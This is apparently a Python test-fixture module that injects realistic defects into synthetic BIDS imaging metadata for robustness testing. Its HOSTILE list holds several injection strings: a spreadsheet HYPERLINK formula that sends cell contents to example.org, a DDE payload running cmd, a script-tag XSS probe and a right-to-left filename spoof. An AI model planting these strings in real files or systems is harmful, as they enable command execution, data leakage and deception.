"""Defects of acquisition parameters and of text, planted as in ``plant_values``. All people are invented."""

from __future__ import annotations

import numpy as np

from flows.demo.corpus.chance import pick
from flows.demo.corpus.images import Image
from flows.demo.corpus.model import Document
from flows.demo.corpus.plant_values import Detail, get, put

MISSPELLED = {
    "ManufacturersModelName": "ManufacturerModelName",
    "ParallelReductionFactorInPlane": "ParallelReductionFactorInPlan",
    "FlipAngle": "FLipAngle",
}
"""Key as BIDS spells it, to the misspelling its writers are known for."""

HOSTILE = (
    '=HYPERLINK("http://example.org/?x="&A1,"open")',
    "+SUM(1,1)*cmd|' /C calc'!A0",
    "@here, \"quoted\", and 'so on'; \\ too",
    "-2+3\tafter a tab",
    "first line\nsecond line\r\nthird",
    "cut\x00here",
    "right to left: \u202egnp.exe\u202c \u05e8\u05d0\u05e9",
    "\U0001f9e0 T1 \U0001f468\u200d\u2695\ufe0f e\u0301",
    "<script>alert('x')</script>",
    "\ufeffbyte order mark, NaN, NULL",
)
"""Texts that break careless writers of CSV, spreadsheets, reports and terminals."""

_PERSONAL = (
    ("PatientName", "DOE^JANE^Q"),
    ("OperatorsName", "Rasmus Ohlendorf"),
    ("ReferringPhysicianName", "Dr. Amina Example, phone +1 202-555-0143"),
    ("ImageComments", "participant moved; call 202-555-0171 to reschedule"),
    ("ContactInformation", {"name": "Li Placeholder", "mail": "li.placeholder@example.org"}),
    ("ProtocolName", "T1_mprage for max.mustermann@example.org"),
    ("ProtocolName", "head_JANE_DOE_1984-03-02"),
)


def misspelled_key(document: Document, image: Image, rng: np.random.Generator) -> Detail:
    """A BIDS key, misspelled by whoever wrote the sidecar."""
    meta = document["bids_meta"]
    known = [name for name in MISSPELLED if name in meta]
    if not known:
        return None
    name = pick(rng, known)
    value = meta.pop(name)
    meta[MISSPELLED[name]] = value
    return {"column": f"bids_meta.{name}", "true": value, "sent": None, "sent_key": MISSPELLED[name]}


def echo_time_ms(document: Document, image: Image, rng: np.random.Generator) -> Detail:
    """``EchoTime`` in milliseconds where BIDS has seconds."""
    true = get(document, "bids_meta.EchoTime")
    return None if true is None else put(document, "bids_meta.EchoTime", round(true * 1000, 6))


def imaging_frequency_hz(document: Document, image: Image, rng: np.random.Generator) -> Detail:
    """``ImagingFrequency`` in hertz where DICOM and BIDS have megahertz."""
    true = get(document, "bids_meta.ImagingFrequency")
    return None if true is None else put(document, "bids_meta.ImagingFrequency", round(true * 1e6))


def phase_encoding_letters(document: Document, image: Image, rng: np.random.Generator) -> Detail:
    """``PhaseEncodingDirection`` in letters that BIDS does not have."""
    letters = {"j-": ("AP", "y-"), "j": ("PA", "y"), "i": ("x", "LR"), "i-": ("x-", "RL")}
    true = get(document, "bids_meta.PhaseEncodingDirection")
    return (
        put(document, "bids_meta.PhaseEncodingDirection", pick(rng, letters[true]))
        if true in letters
        else None
    )


def plain_subject_id(document: Document, image: Image, rng: np.random.Generator) -> Detail:
    """The subject's label in clear, where the client should have hashed it."""
    return put(document, "bids_meta.subject_id", image.label)


def device_serial(document: Document, image: Image, rng: np.random.Generator) -> Detail:
    """The scanner's serial number: the same for all images of a study."""
    if "Manufacturer" not in document["bids_meta"]:
        return None
    return put(document, "bids_meta.DeviceSerialNumber", str(30000 + int(rng.integers(60000))))


def personal_text(document: Document, image: Image, rng: np.random.Generator) -> Detail:
    """A name, a telephone number or an e-mail address in free text."""
    key, value = pick(rng, _PERSONAL)
    return put(document, f"bids_meta.{key}", value)


def hostile_text(document: Document, image: Image, rng: np.random.Generator) -> Detail:
    """Text that breaks careless writers and readers."""
    key = pick(rng, ("ProtocolName", "InstitutionName", "SequenceName", "StudyComment"))
    return put(document, f"bids_meta.{key}", pick(rng, HOSTILE))
